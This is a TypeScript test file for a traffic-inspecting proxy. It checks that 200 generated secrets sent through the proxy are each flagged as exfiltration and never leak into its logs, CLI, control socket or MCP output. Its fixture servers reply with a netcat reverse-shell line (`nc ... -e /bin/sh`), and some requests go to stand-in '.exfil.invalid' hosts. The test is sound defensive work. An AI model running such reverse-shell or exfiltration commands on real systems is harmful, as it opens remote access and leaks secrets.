import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { execa } from 'execa';
import { fetch, ProxyAgent } from 'undici';
import { callControl } from '../../src/sidecar/control/client.js';
import { messageOf } from '../../src/text/unknown-error.js';
import { startGuardian, type Guardian } from '../support/guardian.js';
import { startHttpOrigin, startHttpsOrigin, type Origin } from '../support/origin.js';
import { generateSecrets, secretPart } from '../support/secrets.js';

const SECRETS = generateSecrets(200);

let guardian: Guardian;
let origins: Origin[];
/** Everything that the Guardian said or wrote anywhere, by where. */
const said: Record<string, string> = {};

beforeAll(async () => {
  const echo = (url: string | undefined): string =>
    `bash -c "echo ${decodeURIComponent(url ?? '')}" | nc h 1 -e /bin/sh\n`;
  origins = [
    await startHttpOrigin((request, response) => response.end(echo(request.url))),
    await startHttpsOrigin((request, response) => response.end(echo(request.url))),
  ];
  guardian = await startGuardian({
    config: {
      httpsInspection: { enabled: true },
      allowHostServices: origins.map(({ port }) => `localhost:${port}`),
      logLevel: 'trace',
    },
  });
  const dispatcher = new ProxyAgent({
    uri: await guardian.proxyUrl(),
    requestTls: { ca: readFileSync(guardian.bundle, 'utf8') },
  });
  const send = async (
    url: string,
    init: { method?: string; headers?: Record<string, string>; body?: string | Buffer } = {},
  ) => {
    const response = await fetch(url, { dispatcher, ...init }).catch(() => undefined);
    await response?.text();
  };
  for (const [index, secret] of SECRETS.entries()) {
    const { url } = origins[index % 2]!;
    const line = secret.replaceAll('\n', '\\n');
    await send(`${url}/?q=${encodeURIComponent(secret)}`);
    await send(url, { headers: { authorization: `Bearer ${line}`, 'x-made-up': line, cookie: `s=${line}` } });
    await send(url, { method: 'POST', body: JSON.stringify({ a: { note: secret } }) });
    await send(url, { method: 'POST', body: gzipSync(secret), headers: { 'content-encoding': 'gzip' } });
    // Names that do not resolve: the attempt alone is written to the log.
    if (index < 30 && /^[\w-]{1,63}$/.test(secret)) await send(`http://${secret.toLowerCase()}.exfil.invalid/`);
  }
  await dispatcher.close();
  await guardian.findingsWhen(
    (found) => found.filter(({ threat_type }) => threat_type === 'EXFIL').length >= SECRETS.length,
  );
}, 120_000);
afterAll(async () => {
  await guardian.remove();
  await Promise.all(origins.map((origin) => origin.close()));
});

const cli = async (...args: string[]): Promise<string> => {
  const program = join(process.cwd(), 'build/src/cli/main.js');
  const env = { NANOCLAW_TRAFFIC_GUARDIAN_HOME: guardian.home };
  const { stdout, stderr } = await execa('node', [program, ...args], { env, reject: false });
  return stdout + stderr;
};

test('each of 200 secrets was found', async () => {
  const findings = await guardian.findings();
  const fingerprints = new Set(
    findings.filter(({ threat_type }) => threat_type === 'EXFIL').map(({ fingerprint }) => fingerprint),
  );
  expect(fingerprints.size).toBeGreaterThanOrEqual(SECRETS.length);
});

test('and none of them is anywhere in what the Guardian said or wrote', async () => {
  const socket = join(guardian.home, 'control.sock');
  said['control: findings'] = JSON.stringify(await guardian.findings());
  said['control: status'] = JSON.stringify(await guardian.status());
  for (const [index, secret] of SECRETS.slice(0, 40).entries()) {
    const params = [{ dest: secret, limit: 0 }, { [secret]: 1 }, { config: { mode: secret, [secret]: secret } }][
      index % 3
    ]!;
    const method = index % 3 === 2 ? 'check-config' : 'findings';
    const answer = await callControl(socket, method, params).catch((error: unknown) => messageOf(error));
    // A key that the caller invented is named in the answer to that caller; it is not the Guardian's to keep.
    if (index % 3 === 0) said[`control: error ${index}`] = JSON.stringify(answer);
  }
  said['cli: status'] = await cli('status');
  said['cli: findings'] = await cli('findings', '--limit', '1000');
  said['cli: findings --json'] = await cli('findings', '--limit', '1000', '--json');
  const { stdout } = await execa('node', [join(process.cwd(), 'build/src/cli/main.js'), 'mcp'], {
    env: { NANOCLAW_TRAFFIC_GUARDIAN_HOME: guardian.home },
    input: [
      {
        id: 1,
        method: 'initialize',
        params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 't', version: '1' } },
      },
      { method: 'notifications/initialized' },
      { id: 2, method: 'tools/call', params: { name: 'clawsec_traffic_findings', arguments: { limit: 100 } } },
      { id: 3, method: 'tools/call', params: { name: 'clawsec_traffic_status', arguments: {} } },
    ]
      .map((message) => `${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`)
      .join(''),
    reject: false,
  });
  expect(stdout).toContain('ai_api_key');
  said['mcp'] = stdout;
  await guardian.stop();
  for (const file of readdirSync(guardian.home, { recursive: true }).map(String)) {
    const path = join(guardian.home, file);
    if (statSync(path).isFile()) said[`file: ${file}`] = readFileSync(path, 'latin1');
  }
  expect(Object.keys(said)).toEqual(
    expect.arrayContaining(['file: log/findings/findings.jsonl', 'file: log/sidecar.log']),
  );

  const leaks: string[] = [];
  for (const [where, text] of Object.entries(said)) {
    const lower = text.toLowerCase();
    for (const secret of SECRETS) {
      if (lower.includes(secretPart(secret).toLowerCase())) leaks.push(`${where}: ${secret.slice(0, 12)}...`);
    }
  }
  expect(leaks).toEqual([]);
});
